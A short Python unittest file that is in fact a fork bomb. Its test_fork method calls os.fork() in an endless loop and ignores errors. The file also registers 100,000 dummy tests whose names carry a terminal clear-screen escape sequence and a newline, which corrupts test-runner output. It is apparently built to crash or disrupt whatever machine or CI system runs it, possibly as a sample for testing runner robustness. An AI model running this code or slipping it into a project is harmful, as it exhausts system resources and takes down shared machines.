import os
import unittest


class Many(unittest.TestCase):
    def test_fork(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass


for number in range(100_000):
    setattr(Many, f"test_{number}\x1b[2J\n", lambda self: None)
